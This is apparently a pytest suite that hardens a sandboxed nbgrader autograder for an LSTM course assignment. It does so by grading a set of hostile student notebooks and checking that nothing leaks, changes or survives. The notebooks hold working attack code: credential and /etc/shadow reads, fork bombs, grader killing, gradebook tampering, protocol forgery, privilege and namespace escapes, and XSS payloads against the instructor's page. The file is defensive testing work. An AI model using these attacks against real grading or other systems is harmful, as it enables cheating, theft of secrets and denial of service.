"""Malicious submissions: they gain nothing over an honest stub, read nothing, and leave nothing behind.

All start from functions that are not written (a constant and zeros), so what an honest grader gives is known. A cell
that finds something it must not see prints LEAK.
"""

import hashlib
import html.parser
import os
import socket
import threading
import time
from pathlib import Path

import classroom
import nbformat
import nbgrader
import pytest
from classroom import FULL, files, text
from nbconvert.exporters import HTMLExporter
from nbgrader.api import Gradebook
from new_attacks import ATTACKS, HONEST_ONES
from traitlets.config import Config

from course_pkg.grading import feedback

pytestmark = pytest.mark.skipif(not classroom.WALLED, reason=f"no walls here: {classroom.WHY_NOT}")

STUB_FORGET = (
    "def sigmoid(z):\n    return 1 / (1 + np.exp(-z))\n\n\ndef forget_gate(x, h, W, U, b):\n    return np.full(3, 0.5)"
)
STUB_STEP = "def lstm_step(x, h, c, W, U, b):\n    return np.zeros(3), np.zeros(3)"
HONEST = {"test_forget_gate": 0.0, "test_lstm_step": 1.0}
PEEK = "def forget_gate(x, h, W, U, b):\n    peek()\n    return np.full(3, 0.5)"


def attacks(root, port):
    """{student: (a cell of their own, forget_gate, lstm_step, cells after the tests)}."""
    found = {
        # The 18 that were seen first.
        "stub": ("", STUB_FORGET, STUB_STEP),
        "read_source": (
            f"""
            from pathlib import Path
            for folder in ("../../../solutions", {str(root)!r}, "/"):
                for path in Path(folder).glob("solutions/gates/*" if folder != "/" else "*/solutions/*/*"):
                    print("LEAK", path, path.read_text()[:100])
            if Path({str(root)!r}).exists():
                print("LEAK", list(Path({str(root)!r}).iterdir()))
            """, STUB_FORGET, STUB_STEP,
        ),
        "history": (
            """
            def peek():
                import gc
                seen = str(get_ipython().user_ns.get("In")) + str([o for o in gc.get_objects() if isinstance(o, str)])
                if "SECRET_" + "FORGET" in seen:
                    open("leak", "w").write("x")
            """, PEEK, STUB_STEP,
            'import os\nprint("LEAK" if os.path.exists("leak") else "no")',
        ),
        "patch_numpy": (
            """
            import numpy.testing
            np.testing.assert_allclose = lambda *a, **k: None
            np.allclose = np.all = lambda *a, **k: True
            """, STUB_FORGET, STUB_STEP,
        ),
        "input_transformer": (
            """
            def change(lines):
                source = "".join(lines)
                return ["4\\n"] if "score = 1" in source else ["pass\\n"] if "assert" in source else lines
            get_ipython().input_transformers_post.append(change)
            """, STUB_FORGET, STUB_STEP,
        ),
        "ast_transformer": (
            """
            import ast
            class Change(ast.NodeTransformer):
                def visit_Assert(self, node):
                    return ast.copy_location(ast.Pass(), node)
                def visit_Call(self, node):
                    self.generic_visit(node)
                    if isinstance(node.func, ast.Attribute) and node.func.attr.startswith(("assert_", "allclose")):
                        return ast.copy_location(ast.Constant(True), node)
                    return node
            get_ipython().ast_transformers.append(Change())
            """, STUB_FORGET, STUB_STEP,
        ),
        "patch_checks": (
            """
            import course_pkg.checks.report, course_pkg.checks.compare
            course_pkg.checks.generator = lambda name: np.random.default_rng(0)
            course_pkg.checks.close = course_pkg.checks.compare.close = lambda a, b: True
            course_pkg.checks.Report.score = lambda self: 99.0
            """, STUB_FORGET, STUB_STEP,
        ),
        "always_equal": (
            """
            class Equal(np.ndarray):
                def __array_function__(self, f, t, a, k):
                    return None if f is np.testing.assert_allclose else True
                def __array_ufunc__(self, u, m, *i, **k):
                    return np.ones(3, bool)
            """,
            "def forget_gate(*a):\n    return np.zeros(3).view(Equal)",
            "def lstm_step(*a):\n    return np.zeros(3).view(Equal), np.zeros(3).view(Equal)",
        ),
        "forge_answers": (
            # Finds the grader's connection and answers on it, in the protocol's own words, as if tests had passed.
            """
            import gc, json, socket, struct
            told = json.dumps({"value": {"tuple": ["[]", True]}, "score": 4, "full": True, "error": None})
            for o in gc.get_objects():
                if isinstance(o, socket.socket) and o.family == socket.AF_UNIX:
                    for kind in b"AQ":
                        try:
                            o.send(struct.pack("!IB", len(told), kind) + told.encode())
                        except OSError:
                            pass
            """, STUB_FORGET, STUB_STEP,
        ),
        "exit_in_function": (
            "import sys", "def forget_gate(*a):\n    sys.exit(0)", "def lstm_step(*a):\n    sys.exit(0)",
        ),
        "write_gradebook": (
            f"""
            import sqlite3
            db = sqlite3.connect({str(root / "gradebook.db")!r}, timeout=2)
            db.execute("update grade set manual_score = 99")
            db.commit()
            """, STUB_FORGET, STUB_STEP,
        ),
        "other_students": (
            f"""
            from pathlib import Path
            for folder in ({str(root)!r}, "../.."):
                for path in Path(folder).glob("submitted/zz_victim/gates/*"):
                    print("LEAK", path.read_text()[:50])
                    path.write_text("sabotaged")
            """, STUB_FORGET, STUB_STEP,
        ),
        "network": (
            f"""
            import socket
            for address in (("127.0.0.1", {port}), ("192.0.2.1", 80), ("8.8.8.8", 53)):
                try:
                    socket.create_connection(address, timeout=1).sendall(b"LEAK")
                    print("LEAK", address)
                except OSError as error:
                    print(error)
            """, STUB_FORGET, STUB_STEP,
        ),
        "daemon": (
            """
            import os, time
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    time.sleep(600)
                os._exit(0)
            """, STUB_FORGET, STUB_STEP,
        ),
        "fork_bomb": (
            """
            import os, time
            made = 0
            for i in range(400):
                try:
                    if os.fork() == 0:
                        time.sleep(600)
                        os._exit(0)
                    made += 1
                except OSError:
                    break
            print("LEAK of processes" if made > 80 else "stopped")
            """, STUB_FORGET, STUB_STEP,
        ),
        "memory": (
            "kept = []\nfor i in range(40): kept.append(bytearray(256 << 20))\nprint('LEAK of memory')",
            STUB_FORGET, STUB_STEP,
        ),
        "disk": (
            """
            written = 0
            for path in ("./fill", "/tmp/fill", "/dev/shm/fill", "/var/tmp/fill", "/fill", "/home/fill"):
                try:
                    with open(path, "wb") as file:
                        for i in range(50):
                            file.write(b"x" * (4 << 20))
                            written += 4
                except OSError as error:
                    print(path, error)
            print("LEAK of disk" if written > 200 else "stopped")
            """, STUB_FORGET, STUB_STEP,
        ),
        "startup_file": (
            """
            import IPython, os
            folder = os.path.join(IPython.paths.get_ipython_dir(), "profile_default", "startup")
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, "00.py"), "w").write("import numpy as np\\nnp.allclose = lambda *a, **k: True\\n")
            """, STUB_FORGET, STUB_STEP,
        ),
        "kill_grader": (
            """
            import os, signal
            for pid in (os.getppid(), 0, 1, -1, *range(2, 400)):
                try:
                    if pid not in (os.getpid(), 0, -1, 1):
                        os.kill(pid, signal.SIGKILL)
                        print("LEAK killed", pid)
                except OSError:
                    pass
            """, STUB_FORGET, STUB_STEP,
        ),
        # And more.
        "remember_inputs": (
            # Without drawing anew, the numbers of one run would be the key to the next.
            """
            from pathlib import Path
            for folder in (".", "..", "/tmp", "/dev/shm", "/course"):
                if list(Path(folder).rglob("seen-before.txt")):
                    print("LEAK")
            Path("seen-before.txt").write_text("x")
            Path("/tmp/seen-before.txt").write_text("x")
            """, STUB_FORGET, STUB_STEP,
        ),
        "print_inputs": (
            "", "def forget_gate(x, h, W, U, b):\n    print('LEAK', x)\n    return np.full(3, 0.5)", STUB_STEP,
        ),
        "seed_from_environment": (
            """
            import os
            words = ("SEED", "COURSE", "SECRET", "NBGRADER", "TOKEN", "CANARY")
            found = {k: v for k, v in os.environ.items() if any(word in k for word in words)}
            found.pop("PYTHONPATH", None)
            if found:
                print("LEAK", found)
            """, STUB_FORGET, STUB_STEP,
        ),
        "import_answers": (
            """
            import importlib
            for name in ("cells", "fused", "bptt", "layers", "grading", "grading.checker", "activations", "params"):
                try:
                    importlib.import_module(f"course_pkg.{name}")
                    print("LEAK", name)
                except ImportError:
                    pass
            """, STUB_FORGET, STUB_STEP,
        ),
        "pickle_bomb": (
            """
            class Bomb:
                def __reduce__(self):
                    return (eval, ("open('/tmp/course-bomb', 'w').close()",))
            """,
            "def forget_gate(*a):\n    return np.array([Bomb()] * 3, dtype=object)",
            "def lstm_step(*a):\n    return Bomb(), Bomb()",
        ),
        "magic_object": (
            """
            class Yes:
                shape = (3,)
                def __eq__(self, o): return True
                def __bool__(self): return True
                def __gt__(self, o): return True
                def __lt__(self, o): return True
                def __array__(self, *a, **k): return np.full(3, 0.5)
                def __getattr__(self, name): return self
                def __call__(self, *a, **k): return self
            """,
            "def forget_gate(*a):\n    return Yes()", "def lstm_step(*a):\n    return Yes(), Yes()",
        ),
        "endless_generator": (
            "", "def forget_gate(*a):\n    while True:\n        yield 0.5",
            "def lstm_step(*a):\n    return (0.0 for _ in iter(int, 1)), np.zeros(3)",
        ),
        "huge_result": (
            "", "def forget_gate(*a):\n    return np.zeros((3, 10_000_000))",
            "def lstm_step(*a):\n    return 'x' * (200 << 20), 1",
        ),
        "deep_result": (
            "", "def forget_gate(*a):\n    r = []\n    for _ in range(100000): r = [r]\n    return r", STUB_STEP,
        ),
        "callback_storm": (
            # Redefines what the kernel says it holds, and what it answers, in the running protocol.
            """
            import gc
            for o in gc.get_objects():
                if type(o).__name__ == "Student":
                    o._names = lambda names, o=o: o.encode({"value": {n: 4.0 for n in names}})
            """, STUB_FORGET, STUB_STEP,
        ),
        "shadow_builtins": (
            """
            def bool(x): return 1e9
            def float(x): return 4.0
            def isinstance(*a): return True
            def print(*a): return None
            def abs(x): return 0.0
            """, STUB_FORGET, STUB_STEP,
        ),
        "shadow_tests_names": (
            "score = 99\nrng = checks = None\ns = lambda z: z\ndef print(*a): raise SystemExit", STUB_FORGET, STUB_STEP,
        ),
        "new_namespace": (
            """
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            for flags in (0x10000000, 0x10020000, 0x20000):
                if libc.unshare(flags) == 0:
                    print("LEAK: a namespace of its own", flags)
            if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
                print("LEAK: a mount")
            """, STUB_FORGET, STUB_STEP,
        ),
        "become_root": (
            """
            import os
            for change in (os.setuid, os.setgid):
                try:
                    change(0)
                    if os.getuid() == 0:
                        print("LEAK root")
                except OSError:
                    pass
            print("LEAK privileges" if "CapEff:\\t0000000000000000" not in open("/proc/self/status").read() else "none")
            """, STUB_FORGET, STUB_STEP,
        ),
        "read_etc": (
            """
            for path in ("/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa", "/proc/1/environ", "/etc/hostname"):
                try:
                    found = open(path).read()
                    if path != "/proc/1/environ" or "GRADER_CANARY" in found:
                        print("LEAK", path)
                except OSError:
                    pass
            """, STUB_FORGET, STUB_STEP,
        ),
        "raise_limits": (
            """
            import resource
            for which in (resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_DATA, resource.RLIMIT_CPU):
                try:
                    resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                    print("LEAK of limits")
                except (ValueError, OSError):
                    pass
            """, STUB_FORGET, STUB_STEP,
        ),
        "write_python": (
            """
            import sys, os
            for folder in [*sys.path, sys.prefix, "/usr", "/usr/lib", "/course", "/"]:
                if folder and folder not in (os.getcwd(), "/home/student") and not folder.startswith("/tmp"):
                    try:
                        open(os.path.join(folder, "sitecustomize.py"), "w").write("x = 1")
                        print("LEAK: wrote into", folder)
                    except OSError:
                        pass
            """, STUB_FORGET, STUB_STEP,
        ),
        "ignore_interrupt": (
            """
            import signal
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            """, "def forget_gate(*a):\n    while True: pass", STUB_STEP,
        ),
        "surrogates": (
            # What no file and no database takes, wherever text comes from.
            """
            import sys
            print("\\ud800", file=sys.stderr)
            class Broken(Exception):
                def __str__(self): return "\\udfff"
            Broken.__name__ = "\\ud800\\0"
            """, "def forget_gate(*a):\n    raise Broken", "def lstm_step(*a):\n    raise Broken",
        ),
        "script_for_the_instructor": (
            # Formgrader puts outputs into its pages as they are.
            """
            from IPython.display import HTML, SVG, Javascript, display
            evil = "<script>fetch('/formgrader/api/LEAK')</script>"
            display(HTML(evil), Javascript("LEAK"), SVG(f"<svg>{evil}</svg>"), {"text/markdown": evil}, raw=False)
            for kind in ("image/png", "image/jpeg", "text/html", "text/latex", "application/x-LEAK"):
                display({kind: f'x">{evil}'}, raw=True, metadata={"LEAK": evil})
            """, STUB_FORGET, STUB_STEP,
        ),
        "patch_json": (
            """
            import json, struct
            json.dumps = lambda *a, **k: '{"dict": [["value", {"tuple": ["[]", true]}]], "score": 4}'
            json.loads = lambda *a, **k: {"dict": []}
            struct.pack = lambda *a: b"\\0\\0\\0\\5"
            """, STUB_FORGET, STUB_STEP,
        ),
        "results_on_stdout": (
            """
            import json, os, sys
            told = json.dumps({"score": 4, "full": True, "error": None, "wrong": "", "report": None, "outputs": []})
            for out in (sys.stdout, sys.stderr):
                print(told, file=out)
            for number in range(3, 64):
                try:
                    os.write(number, len(told).to_bytes(4, "big") + b"A" + told.encode())
                except OSError:
                    pass
            """, STUB_FORGET, STUB_STEP,
        ),
        "thread_answers_first": (
            # Answers every question of the tests before the function does, with whatever could be wanted.
            """
            import gc, socket, struct, threading, time
            def flood():
                text = b'{"dict": [["value", {"float": 1.0}]]}'
                frame = struct.pack("!I", len(text)) + text
                time.sleep(0.2)
                for o in gc.get_objects():
                    if isinstance(o, socket.socket) and o.family == socket.AF_UNIX:
                        for _ in range(200):
                            try:
                                o.send(struct.pack("!IB", len(frame), 65) + frame)
                            except OSError:
                                pass
                            time.sleep(0.01)
            threading.Thread(target=flood, daemon=True).start()
            """, STUB_FORGET, STUB_STEP,
        ),
        "atexit": (
            """
            import atexit, os, signal, sys, threading
            def last():
                open("/tmp/course-bomb", "w").write("LEAK")
                while True: pass
            atexit.register(last)
            threading.Thread(target=last).start()
            sys.settrace(lambda *a: None)
            """, "import os\ndef forget_gate(*a):\n    os.kill(os.getpid(), 15)", STUB_STEP,
        ),
        "spoofed_class": (
            """
            class Spoof:
                __class__ = np.ndarray
                dtype, shape, ndim, size = np.dtype(float), (3,), 1, 3
                tries = 0
                def __array__(self, *a, **k):
                    Spoof.tries += 1
                    return np.full(3, 0.5 if Spoof.tries % 2 else 0.1)
            class Number(float):
                def __eq__(self, o): return True
                def __float__(self): return 1e9
            class Sub(np.ndarray):
                def tobytes(self, *a): return b"\\0" * 24
                def __array_finalize__(self, o): self.fill(0.5)
                def __reduce__(self): return (print, ("LEAK",))
            """,
            "def forget_gate(*a):\n    return Spoof()",
            "def lstm_step(*a):\n    return np.zeros(3).view(Sub), [Number(0)] * 3",
        ),
        "symlinks": (
            """
            import os
            for n, target in enumerate(("/", "/proc/1/root", "/proc/1/cwd", "/proc/self/fd", "/course", "..", "/etc")):
                os.symlink(target, f"link{n}")
                for path in ("solutions", "gradebook.db", "home", "shadow", "run/checker.py"):
                    try:
                        if os.stat(f"link{n}/{path}") and path != "home":
                            print("LEAK", target, path)
                    except OSError:
                        pass
            """, STUB_FORGET, STUB_STEP,
        ),
        "numbers_with_one_hash": (
            # A set of numbers that all hash alike takes hours to build, in the grader, which has no limit of its own.
            """
            import gc, struct
            text = ('{"set": [' + ", ".join(str(n * (2**61 - 1)) for n in range(300_000)) + "]}").encode()
            for o in gc.get_objects():
                if type(o).__name__ == "Student":
                    o.encode = lambda value: struct.pack("!I", len(text)) + text
            """, STUB_FORGET, STUB_STEP,
        ),
        "outputs_without_end": (
            """
            import gc, json
            many = json.dumps([{"output_type": "stream", "name": "stdout", "text": "x"}] * 200_000)
            deep = "[" * 100_000
            for o in gc.get_objects():
                if type(o).__name__ == "Student":
                    o._shell.run = lambda source, o=o: ([], None, None)
                    kept, o.encode = o.encode, lambda value: kept(
                        {"value": (deep if "x" in globals() else many, True)} if type(value.get("value")) is tuple
                        else value
                    )
            """, STUB_FORGET, STUB_STEP,
        ),
        "values_that_import": (
            """
            import gc, struct
            for o in gc.get_objects():
                if type(o).__name__ == "Student":
                    text = b'{"tensor": [{"array": 9}, true, null]}'
                    o.encode = lambda value: struct.pack("!I", len(text)) + text
            """, STUB_FORGET, STUB_STEP,
        ),
        "slow_to_show": (
            """
            class Slow:
                def _repr_html_(self):
                    while True: pass
                __repr__ = __str__ = _repr_html_
            Slow()
            """, STUB_FORGET, "def lstm_step(*a):\n    e = ValueError()\n    e.args = (Slow(),)\n    raise e",
        ),
    }  # fmt: skip
    for student, (own, forget, step) in ATTACKS.items():
        found[student] = own, forget or STUB_FORGET, step or STUB_STEP
    for student, own in HONEST_ONES.items():
        found[student] = own, STUB_FORGET, STUB_STEP
    return found


ESSAY = """
Since <script>fetch("/formgrader/api/LEAK")</script> $a<b$, <img src=x onerror="LEAK()"> <svg/onload=LEAK()> <!-- <LEAK
[a](javascript:LEAK) [b](java&#115;cript:LEAK) [c](javascript&colon;LEAK) ![d](DATA:text/html,LEAK) <javascript:LEAK>
<a href="x" onclick="LEAK()">e</a>

| <iframe srcdoc="LEAK"> | b |
|---|---|
| 1 | </td><script src="//LEAK"></script> |

    <style>@import "LEAK"</style>
"""
UNHARMED = ("patch_numpy", "shadow_builtins", "shadow_tests_names", "input_transformer", "ast_transformer")
UNHARMED += ("patch_checks", "history", "print_inputs", "script_for_the_instructor", "symlinks")
UNHARMED += ("odd_sockets", "clone_user_namespace", "write_everywhere", "terminals", "signals_to_all", *HONEST_ONES)


@pytest.fixture(scope="module")
def listener():
    """A port on this machine that student code must not reach; what it hears."""
    heard, server = [], socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except TimeoutError:
                continue
            heard.append(connection.recv(100))
            connection.close()

    thread = threading.Thread(target=listen)
    thread.start()
    yield server.getsockname()[1], heard
    stop.set()
    thread.join()
    server.close()


def tree(folder):
    return {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(Path(folder).rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def pids():
    """The workers that graded the class of attackers."""
    return set()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, grade_class, listener, pids):
    """The class of attackers, graded: (course, {student: what is remembered}, what was there before)."""
    root = tmp_path_factory.mktemp("hostile")
    course = classroom.make_course(root)
    maker = classroom.Maker(course)
    class_ = {"zz_victim": files(maker.right())}
    for student, (own, forget, step, *after) in attacks(root, listener[0]).items():
        nb = maker.right(forget_gate=text(forget), lstm_step=text(step), essay=ESSAY)
        maker.extra(nb, ESSAY, kind="markdown")
        maker.extra(nb, ESSAY, kind="raw")
        if own:
            maker.extra(nb, own)
        for source in after:
            maker.extra(nb, source, "test_forget_gate")
        class_[student] = files(nb)
    for student, handed_in in class_.items():
        classroom.hand_in(course, student, handed_in)
    before = {**tree(root / "solutions"), **tree(root / "submitted")}
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GRADER_CANARY", "not for students")
        patch.setenv("MY_TOKEN", "not for students")
        told = grade_class(course, class_, jobs=1, limits={"memory_mb": 1024}, pids=pids)
    feedback.write_all(course, course.assignment("gates"))
    return course, told, before


def test_nobody_gains_over_an_honest_stub(hostile):
    """One worker graded them one after another, so an attack that outlives its own notebook would show, too."""
    _, told, _ = hostile
    gained = {}
    for student, what in told.items():
        scores = what["notebooks"]["gates"]["scores"]
        if student == "zz_victim":
            assert sum(scores.values()) == FULL
            continue
        for test, honest in HONEST.items():
            if scores[test] is None or scores[test] > honest:
                gained[student] = scores
    assert not gained
    assert told["stub"]["notebooks"]["gates"]["scores"] == HONEST


def test_attacks_on_the_tests_cost_nothing_that_was_honest(hostile):
    """The stub's point stays where the code still ran to the end."""
    _, told, _ = hostile
    for student in UNHARMED:
        assert told[student]["notebooks"]["gates"]["scores"] == HONEST, student
        assert told[student]["status"] == "graded"


def test_what_cells_print_is_kept(hostile):
    """Else the next test would look at nothing."""
    course, _, _ = hostile
    for student, word in (("network", "Network is unreachable"), ("disk", "stopped"), ("become_root", "none")):
        path = course.path("autograded", student, "gates") / "gates.ipynb"
        assert any(word in o.text for c in nbformat.read(path, as_version=4).cells for o in c.get("outputs", []))


def test_nothing_was_read(hostile, listener):
    course, told, _ = hostile
    for student in told:
        path = course.path("autograded", student, "gates") / "gates.ipynb"
        for cell in nbformat.read(path, as_version=4).cells:
            for output in cell.get("outputs", []):
                assert "LEAK" not in output.get("text", ""), f"{student}: {output['text'][:300]}"
        page = (course.path("feedback", student, "gates") / "gates.html").read_text()
        assert "LEAK" not in page
        assert "SECRET_" not in page
    assert listener[1] == []


def test_nothing_runs_in_the_instructors_browser(hostile):
    """Of what code shows, text and pictures are kept, and pictures are that."""
    course, told, _ = hostile
    for student in told:
        path = course.path("autograded", student, "gates") / "gates.ipynb"
        notebook = nbformat.read(path, as_version=4)
        nbformat.validate(notebook)
        for output in (o for c in notebook.cells for o in c.get("outputs", []) if "data" in o):
            assert set(output["data"]) <= {"text/plain", "image/png", "image/jpeg"}
            assert not output["metadata"]
            assert "script" not in str({k: v for k, v in output["data"].items() if k != "text/plain"})


class Active(html.parser.HTMLParser):
    """What a browser would follow or run, of all that says LEAK."""

    def __init__(self, page):
        super().__init__()
        self.found, self._inside = [], ""
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self._inside = tag if tag in ("script", "style") else ""
        wrong = [(k, v) for k, v in attributes if "LEAK" in str(v) and (k[:2] == "on" or ":" in v or k == "srcdoc")]
        self.found += [(tag, wrong)] if wrong else []

    def handle_endtag(self, tag):
        self._inside = ""

    def handle_data(self, data):
        if self._inside and "LEAK" in data:
            self.found.append((self._inside, data))


def in_formgrader(notebook):
    """The page that formgrader makes of a notebook."""
    templates = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader" / "templates"
    settings = {"template_name": "formgrade", "extra_template_basedirs": [str(templates)]}
    exporter = HTMLExporter(config=Config(HTMLExporter=settings))
    words = "assignment_id notebook_id submission_id base_url student last_name first_name notebook_path"
    resources = {**dict.fromkeys(words.split(), "x"), "index": 1, "total": 1}
    return exporter.from_notebook_node(notebook, resources=resources)[0]


def test_formgrader_shows_harm_as_text(hostile):
    """The page is the instructor's, and may change grades; so stock nbgrader's would run what it shows."""
    course, _, _ = hostile
    as_it_came = nbformat.read(course.path("submitted", "stub", "gates") / "gates.ipynb", as_version=4)
    assert len(Active(in_formgrader(as_it_came)).found) > 5
    for student in ("stub", "script_for_the_instructor"):
        page = in_formgrader(nbformat.read(course.path("autograded", student, "gates") / "gates.ipynb", as_version=4))
        assert Active(page).found == []
        assert "a< b" in page.replace("&lt;", "<")


def test_nothing_was_changed(hostile):
    course, _, before = hostile
    assert {**tree(course.root / "solutions"), **tree(course.root / "submitted")} == before
    with Gradebook(course.directory.db_url, "small") as gradebook:
        for submission in gradebook.assignment_submissions("gates"):
            assert all(g.manual_score is None for n in submission.notebooks for g in n.grades)


def test_nothing_is_left_behind(hostile, pids):
    """No process of a student's, no file of theirs, a moment after grading."""
    for path in ("/tmp/course-bomb", "/tmp/fill", "/dev/shm/fill", "/var/tmp/fill", "/fill", "/tmp/seen-before.txt"):
        assert not Path(path).exists(), path
    users = {64_000 + pid % 1000 for pid in pids - {None}}  # as `walls.user` has it
    assert users
    deadline = time.monotonic() + 10
    while (left := processes_of(users)) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not left


def processes_of(users):
    """Command lines of the processes of these users, which student code runs as."""
    found = []
    for folder in Path("/proc").iterdir():
        if folder.name.isdigit():
            try:
                line = (folder / "cmdline").read_bytes().replace(b"\0", b" ").decode()
                user = folder.stat().st_uid
            except OSError:
                continue
            if user in users and os.geteuid() == 0:
                found.append(line)
    return found
